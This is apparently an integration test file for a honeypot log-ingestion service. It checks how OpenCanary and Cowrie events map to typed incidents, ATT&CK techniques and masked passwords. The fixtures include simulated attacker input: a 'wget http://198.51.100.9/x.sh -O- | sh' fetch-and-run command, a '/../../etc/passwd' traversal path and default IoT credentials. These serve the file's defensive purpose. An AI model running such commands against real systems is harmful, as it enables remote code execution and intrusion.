import { afterAll, beforeAll, expect, test } from "bun:test"
import { createHash } from "node:crypto"
import { SqlClient } from "@effect/sql"
import { Effect } from "effect"
import type { OrgId, SensorId } from "../../src/domain/ids.ts"
import { CowrieSessionsRepo } from "../../src/ingest/CowrieSessionsRepo.ts"
import { canonicalJson } from "../../src/ingest/formats/native.ts"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createSensor, createTenant, get, SPEC_EVENT_FIELDS } from "../support/fixtures.ts"
import { ingest } from "../support/ingest.ts"
import { type RunningServer, shutdown, startServer } from "../support/server.ts"

let server: RunningServer
let db: TestDatabase
let tenant: { orgId: OrgId; key: string }
let sensor: { id: SensorId; token: string }

beforeAll(async () => {
  server = await startServer()
  db = testDatabase(server.env)
  tenant = await createTenant(db)
  sensor = await createSensor(db, tenant.orgId, "canary-01")
})

afterAll(() => shutdown(server, db))

const now = () => new Date()
const ocTime = (d: Date) => d.toISOString().replace("T", " ").replace("Z", "000")

test("OpenCanary log lines (NDJSON) end to end, a daemon message ignored with a reason", async () => {
  const t = now()
  const lines = [
    {
      dst_host: "10.0.0.5",
      dst_port: 22,
      local_time: ocTime(t),
      logdata: { SESSION: "1" },
      logtype: 4000,
      node_id: "canary-01",
      src_host: "192.0.2.77",
      src_port: 40001,
      utc_time: ocTime(t),
    },
    {
      dst_host: "10.0.0.5",
      dst_port: 22,
      local_time: ocTime(t),
      logdata: {
        LOCALVERSION: "SSH-2.0-OpenSSH_5.1p1 Debian-4",
        PASSWORD: "toor",
        REMOTEVERSION: "SSH-2.0-libssh2_1.9.0",
        USERNAME: "root",
      },
      logtype: 4002,
      node_id: "canary-01",
      src_host: "192.0.2.77",
      src_port: 40002,
      utc_time: ocTime(t),
    },
    {
      dst_host: "10.0.0.5",
      dst_port: 21,
      local_time: ocTime(t),
      logdata: { PASSWORD: "anonymous", USERNAME: "ftp" },
      logtype: 2000,
      node_id: "canary-01",
      src_host: "192.0.2.77",
      src_port: 40003,
      utc_time: ocTime(t),
    },
    {
      dst_host: "10.0.0.5",
      dst_port: 80,
      local_time: ocTime(t),
      logdata: { HOSTNAME: "intranet", PATH: "/../../etc/passwd", SKIN: "nasLogin", USERAGENT: "sqlmap/1.7" },
      logtype: 3000,
      node_id: "canary-01",
      src_host: "192.0.2.77",
      src_port: 40004,
      utc_time: ocTime(t),
    },
    {
      dst_host: "10.0.0.5",
      dst_port: 0,
      local_time: ocTime(t),
      logdata: { msg: "Canary running" },
      logtype: 1001,
      node_id: "canary-01",
      src_host: "",
      src_port: -1,
      utc_time: ocTime(t),
    },
  ]
  const res = await ingest(
    server.ingestUrl,
    "opencanary",
    sensor.token,
    lines.map((l) => JSON.stringify(l)).join("\n"),
    true,
  )
  expect(res.status).toBe(200)
  expect(res.body.accepted).toBe(4)
  expect(res.body.results[4].status).toBe("ignored")
  expect(res.body.results[4].reason).toContain("1001")
  const incidentId = res.body.results[0].incidentId
  const incident = await get(server.url, `/v1/incidents/${incidentId}`, tenant.key)
  expect(incident.body.sourceIp).toBe("192.0.2.77")
  expect(incident.body.eventCount).toBe(4)
  expect(incident.body.eventTypes).toEqual(["ftp.login_attempt", "http.request", "ssh.login_attempt", "ssh.session"])
  const sshLogin = incident.body.events.find((e: { type: string }) => e.type === "ssh.login_attempt")
  expect(sshLogin).toMatchObject({ service: "ssh", port: 22, sourcePort: 40002, action: expect.any(String) })
  expect(sshLogin.attackerInput.username).toBe("root")
  expect(sshLogin.attackerInput.password).toMatchObject({ masked: "****", length: 4 })
  // D42: OpenCanary refuses every login: root/toor tried is password guessing, never Default Accounts (T1078.001).
  expect(sshLogin.tags).not.toContain("default-credentials")
  expect(incident.body.techniques.map((t: { id: string }) => t.id)).not.toContain("T1078.001")
  const http = incident.body.events.find((e: { type: string }) => e.type === "http.request")
  expect(http.tags).toEqual(expect.arrayContaining(["path-traversal", "scanner"]))
  // Tags add techniques only on the single incident (spec "Technique").
  expect(incident.body.techniques.map((t: { id: string }) => t.id)).toContain("T1190")
  // A resent line is a duplicate.
  const again = await ingest(server.ingestUrl, "opencanary", sensor.token, JSON.stringify(lines[1]), true)
  expect(again.body.duplicates).toBe(1)
})

test("Cowrie JSON events end to end", async () => {
  const t = now()
    .toISOString()
    .replace("Z", "123Z")
    .replace(/\.(\d{3})123Z$/, ".$1123Z")
  const session = "a1b2c3d4e5f6"
  // As Cowrie's output_jsonlog writes them: only the connect line has the protocol and the ports.
  const base = { src_ip: "192.0.2.88", session, sensor: "cowrie-01", timestamp: t }
  const events = [
    {
      ...base,
      eventid: "cowrie.session.connect",
      src_port: 50123,
      dst_ip: "10.0.0.6",
      dst_port: 2222,
      protocol: "ssh",
      message: "New connection: 192.0.2.88:50123 (10.0.0.6:2222) [session: a1b2c3d4e5f6]",
    },
    {
      ...base,
      eventid: "cowrie.login.failed",
      username: "admin",
      password: "123456",
      message: "login attempt [admin/123456] failed",
    },
    {
      ...base,
      eventid: "cowrie.login.success",
      username: "root",
      password: "root",
      message: "login attempt [root/root] succeeded",
    },
    {
      ...base,
      eventid: "cowrie.command.input",
      input: "wget http://198.51.100.9/x.sh -O- | sh",
      message: "CMD: wget http://198.51.100.9/x.sh -O- | sh",
    },
    {
      ...base,
      eventid: "cowrie.session.file_download",
      url: "http://198.51.100.9/x.sh",
      shasum: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
      outfile: "var/lib/cowrie/downloads/e3b0",
      message: "Downloaded URL",
    },
    { ...base, eventid: "cowrie.client.version", version: "SSH-2.0-Go", message: "Remote SSH version" },
  ]
  const res = await ingest(server.ingestUrl, "cowrie", sensor.token, events)
  expect(res.body.accepted).toBe(5)
  // D42: the client version describes the attacker's client: merged into the session's events.
  expect(res.body.results[5]).toMatchObject({
    status: "merged",
    reason: expect.stringContaining("cowrie.client.version"),
  })
  const incident = await get(server.url, `/v1/incidents/${res.body.results[0].incidentId}`, tenant.key)
  expect(incident.body.eventTypes).toEqual([
    "ssh.command",
    "ssh.file_download",
    "ssh.login_attempt",
    "ssh.login_success",
    "ssh.session",
  ])
  expect(incident.body.severity).toBe("high")
  const command = incident.body.events.find((e: { type: string }) => e.type === "ssh.command")
  expect(command.attackerInput.command ?? command.attackerInput.input).toContain("wget")
  // The ports come from the session's connect line.
  expect(command.port).toBe(2222)
  expect(command.sourcePort).toBe(50123)
  const listed = await get(server.url, "/v1/events?type=ssh.file_download&sourceIp=192.0.2.88", tenant.key)
  expect(listed.body.data).toHaveLength(1)
  expect(listed.body.data[0].techniques.map((t: { id: string }) => t.id)).toContain("T1105")
  expect(JSON.stringify(incident.body)).not.toContain("123456")
})

// ---------------------------------------------------------------------------------------------------------------------
// Cowrie sessions: only `cowrie.session.connect` names the protocol and the ports.

const cowrieTime = (ms: number) => new Date(ms).toISOString().replace(/Z$/, "123Z")

/** A Telnet session as Cowrie writes it: connect, three failed logins, a success, a command. */
const telnetSession = (session: string, ip: string, start = Date.now() - 60_000) => {
  const at = (i: number) => ({ session, src_ip: ip, sensor: "cowrie-telnet", timestamp: cowrieTime(start + i * 1000) })
  const login = (i: number, eventid: string, username: string, password: string, outcome: string) => ({
    eventid,
    username,
    password,
    message: `login attempt [${username}/${password}] ${outcome}`,
    ...at(i),
  })
  return [
    {
      eventid: "cowrie.session.connect",
      src_port: 41234,
      dst_ip: "10.0.0.7",
      dst_port: 2323,
      protocol: "telnet",
      message: `New connection: ${ip}:41234 (10.0.0.7:2323) [session: ${session}]`,
      ...at(0),
    },
    login(1, "cowrie.login.failed", "admin", "admin", "failed"),
    login(2, "cowrie.login.failed", "root", "vizxv", "failed"),
    login(3, "cowrie.login.failed", "root", "Tr0ub4dor", "failed"),
    login(4, "cowrie.login.success", "root", "xc3511", "succeeded"),
    { eventid: "cowrie.command.input", input: "cat /proc/cpuinfo", message: "CMD: cat /proc/cpuinfo", ...at(5) },
  ]
}

const TELNET_TYPES = [
  "telnet.session",
  "telnet.login_attempt",
  "telnet.login_attempt",
  "telnet.login_attempt",
  "telnet.login_success",
  "telnet.command",
]

/** The events of one source address through the API, oldest first, each checked against the spec's shape. */
const eventsOf = async (ip: string) => {
  const res = await get(server.url, `/v1/events?sourceIp=${ip}&limit=100`, tenant.key)
  expect(res.status).toBe(200)
  // biome-ignore lint/suspicious/noExplicitAny: loosely typed JSON for assertions
  const events = [...(res.body.data as Array<any>)].reverse()
  for (const e of events) {
    expect(Object.keys(e)).toEqual(SPEC_EVENT_FIELDS)
    expect(e.sensor).toEqual({ id: sensor.id, name: "canary-01" })
    for (const t of e.techniques) expect(Object.keys(t)).toEqual(["id", "name", "tactics"])
  }
  return { events, text: JSON.stringify(res.body) }
}

const expectTelnetSession = async (ip: string, session: string) => {
  const { events, text } = await eventsOf(ip)
  expect(events.map((e) => e.type)).toEqual(TELNET_TYPES)
  for (const e of events) {
    expect(e).toMatchObject({ service: "telnet", port: 2323, sourcePort: 41234, sourceIp: ip })
    const ids = e.techniques.map((t: { id: string }) => t.id)
    // Telnet is a remote service (T1021; ATT&CK has no Telnet sub-technique), never SSH (T1021.004).
    expect(ids).not.toContain("T1021.004")
    if (e.type === "telnet.login_success" || e.type === "telnet.command") expect(ids).toContain("T1021")
  }
  // D42: techniques say what happened. A refused login is password guessing (no T1021, no Default Accounts even
  // with a default credential); the successful root/xc3511 login is a default account used.
  expect(events[1].tags).toEqual([])
  expect(events[1].techniques.map((t: { id: string }) => t.id)).toEqual(["T1110.001"])
  expect(events[2].techniques.map((t: { id: string }) => t.id)).toEqual(["T1110.001"])
  expect(events[3].techniques.map((t: { id: string }) => t.id)).toEqual(["T1110.001"])
  expect(events[4].tags).toEqual(["default-credentials"])
  expect(events[4].techniques.map((t: { id: string }) => t.id)).toEqual(["T1021", "T1078", "T1078.001"])
  expect(events[1].action).toBe("login_attempt")
  expect(events[1].attackerInput).toEqual({
    username: "admin",
    password: { masked: "*****", length: 5, fingerprint: expect.stringMatching(/^[0-9a-f]{32}$/) },
  })
  expect(events[5].attackerInput).toEqual({ command: "cat /proc/cpuinfo" })
  expect(events[5].summary).toContain("Telnet shell command")
  // Cowrie's session id has no field in the API, and no password is returned.
  expect(text).not.toContain(session)
  expect(text).not.toContain("xc3511")
  return events
}

test("a Telnet session in one Cowrie request maps to telnet types with the connect's ports", async () => {
  const session = "7e1e7e1e7e1e"
  const ip = "192.0.2.101"
  const lines = telnetSession(session, ip)
  const res = await ingest(server.ingestUrl, "cowrie", sensor.token, lines)
  expect(res.status).toBe(200)
  expect(res.body).toMatchObject({ accepted: 6, duplicates: 0, rejected: 0 })
  await expectTelnetSession(ip, session)
  const incident = await get(server.url, `/v1/incidents/${res.body.results[0].incidentId}`, tenant.key)
  expect(incident.body.eventTypes).toEqual([
    "telnet.command",
    "telnet.login_attempt",
    "telnet.login_success",
    "telnet.session",
  ])
  expect(incident.body.title).toContain("Telnet")
  // D22: the session resent is six duplicates.
  const again = await ingest(server.ingestUrl, "cowrie", sensor.token, lines)
  expect(again.body).toMatchObject({ accepted: 0, duplicates: 6, rejected: 0 })
})

test("a Telnet session across two Cowrie requests (the connect in the first) maps the same", async () => {
  const session = "5e55105e5510"
  const ip = "192.0.2.102"
  const lines = telnetSession(session, ip)
  const first = await ingest(server.ingestUrl, "cowrie", sensor.token, lines.slice(0, 1))
  expect(first.body).toMatchObject({ accepted: 1, rejected: 0 })
  // NDJSON this time, as a shipper tailing cowrie.json sends it.
  const ndjson = lines
    .slice(1)
    .map((l) => JSON.stringify(l))
    .join("\n")
  const second = await ingest(server.ingestUrl, "cowrie", sensor.token, ndjson, true)
  expect(second.body).toMatchObject({ accepted: 5, rejected: 0 })
  await expectTelnetSession(ip, session)
})

test("lines of a Cowrie session whose connect was never seen keep the defaults (ssh, port 22, source port 0)", async () => {
  const session = "0dd5e5510000"
  const ip = "192.0.2.103"
  const lines = telnetSession(session, ip).slice(1)
  const res = await ingest(server.ingestUrl, "cowrie", sensor.token, lines)
  expect(res.body).toMatchObject({ accepted: 5, rejected: 0 })
  const { events } = await eventsOf(ip)
  expect(events.map((e) => e.type)).toEqual([
    "ssh.login_attempt",
    "ssh.login_attempt",
    "ssh.login_attempt",
    "ssh.login_success",
    "ssh.command",
  ])
  for (const e of events) expect(e).toMatchObject({ service: "ssh", port: 22, sourcePort: 0 })
})

test("remembered Cowrie sessions are the sensor's own, organization-scoped, and pruned by age", async () => {
  const other = await createTenant(db, "Other Co")
  const otherSensor = await createSensor(db, other.orgId, "cowrie-other")
  const session = "5c0bed5c0bed"
  // Another organization's sensor uses the same Cowrie session id: its lines do not see this sensor's connect.
  const connect = telnetSession(session, "192.0.2.104").slice(0, 1)
  expect((await ingest(server.ingestUrl, "cowrie", sensor.token, connect)).body.accepted).toBe(1)
  const later = telnetSession(session, "192.0.2.105").slice(1, 2)
  expect((await ingest(server.ingestUrl, "cowrie", otherSensor.token, later)).body.accepted).toBe(1)
  const otherEvents = await get(server.url, "/v1/events?sourceIp=192.0.2.105", other.key)
  expect(otherEvents.body.data[0]).toMatchObject({ type: "ssh.login_attempt", port: 22, sourcePort: 0 })

  const run = <A, E>(effect: Effect.Effect<A, E, CowrieSessionsRepo>) =>
    db.run(Effect.provide(effect, CowrieSessionsRepo.Default))
  const connects = (orgId: OrgId, sessions: Array<string>) =>
    run(Effect.flatMap(CowrieSessionsRepo, (r) => r.load(orgId, sensor.id, sessions, []))).then(
      (rows) => new Map([...rows].flatMap(([s, row]) => (row.connect === undefined ? [] : [[s, row.connect]]))),
    )
  const found = await connects(tenant.orgId, [session])
  expect([...found]).toEqual([[session, { protocol: "telnet", sourcePort: 41234, port: 2323 }]])
  expect((await connects(other.orgId, [session])).size).toBe(0)

  // A session remembered eight days ago is pruned by a 7-day cutoff; today's stays.
  const old = "01d5e5510000"
  const day = 24 * 60 * 60 * 1000
  await run(
    Effect.flatMap(CowrieSessionsRepo, (r) =>
      r.save(
        tenant.orgId,
        sensor.id,
        [{ session: old, connect: { protocol: "telnet" as const, sourcePort: 1, port: 23 } }],
        new Date(Date.now() - 8 * day),
      ),
    ),
  )
  const deleted = await run(Effect.flatMap(CowrieSessionsRepo, (r) => r.pruneOlderThan(new Date(Date.now() - 7 * day))))
  expect(deleted).toBeGreaterThanOrEqual(1)
  const left = await connects(tenant.orgId, [old, session])
  expect([...left.keys()]).toEqual([session])
})

// ---------------------------------------------------------------------------------------------------------------------
// D19: the stored id of a honeypot line is keyed per organization.

const sha256Hex = (s: string) => createHash("sha256").update(s, "utf8").digest("hex")

/** Every row of the tables that hold events and what ingestion remembers, as text (a database dump). */
const dump = () =>
  db.run(
    Effect.flatMap(
      SqlClient.SqlClient,
      (sql) => sql<{ row: string }>`
        select e::text as row from events e
        union all select c::text from cowrie_sessions c
        union all select i::text from incidents i`,
    ),
  )

const storedIds = (sensorId: string) =>
  db.run(
    Effect.flatMap(
      SqlClient.SqlClient,
      (sql) =>
        sql<{ sensorEventId: string }>`select sensor_event_id from events where sensor_id = ${sensorId} order by id`,
    ),
  )

test("a honeypot line's stored id is keyed per organization; a dump holds neither its password nor its SHA-256", async () => {
  const password = `Pw-${crypto.randomUUID()}`
  const t = new Date(Date.now() - 30_000)
  const ocLogin = {
    dst_host: "10.0.0.5",
    dst_port: 22,
    local_time: ocTime(t),
    logdata: { PASSWORD: password, USERNAME: "root" },
    logtype: 4002,
    node_id: "canary-01",
    src_host: "192.0.2.120",
    src_port: 40120,
    utc_time: ocTime(t),
  }
  const cwLogin = {
    eventid: "cowrie.login.failed",
    username: "root",
    password,
    message: `login attempt [root/${password}] failed`,
    sensor: "cowrie-01",
    timestamp: cowrieTime(t.getTime()),
    src_ip: "192.0.2.120",
    session: "d19d19d19d19",
  }
  const other = await createTenant(db, "Second Org")
  const otherSensor = await createSensor(db, other.orgId, "canary-02")
  const lineSensor = await createSensor(db, tenant.orgId, "canary-03")
  for (const s of [lineSensor, otherSensor]) {
    const oc = await ingest(server.ingestUrl, "opencanary", s.token, JSON.stringify(ocLogin), true)
    expect(oc.body.accepted).toBe(1)
    const cw = await ingest(server.ingestUrl, "cowrie", s.token, cwLogin)
    expect(cw.body.accepted).toBe(1)
    // The same line again is a duplicate (D22).
    expect((await ingest(server.ingestUrl, "opencanary", s.token, ocLogin)).body.duplicates).toBe(1)
    expect((await ingest(server.ingestUrl, "cowrie", s.token, JSON.stringify(cwLogin), true)).body.duplicates).toBe(1)
  }
  const mine = (await storedIds(lineSensor.id)).map((r) => r.sensorEventId).sort()
  const theirs = (await storedIds(otherSensor.id)).map((r) => r.sensorEventId).sort()
  expect(mine).toHaveLength(2)
  expect(theirs).toHaveLength(2)
  for (const id of [...mine, ...theirs]) expect(id).toMatch(/^(?:oc|cw):k1:[0-9a-f]{64}$/)
  // The same lines under two organizations: different ids.
  expect(mine.filter((id) => theirs.includes(id))).toEqual([])

  const rows = (await dump()).map((r) => r.row).join("\n")
  expect(rows).toContain("192.0.2.120") // the dump does hold these events
  expect(rows).not.toContain(password)
  for (const line of [ocLogin, cwLogin]) {
    expect(rows).not.toContain(sha256Hex(canonicalJson(line)))
    expect(rows).not.toContain(sha256Hex(JSON.stringify(line)))
  }
})
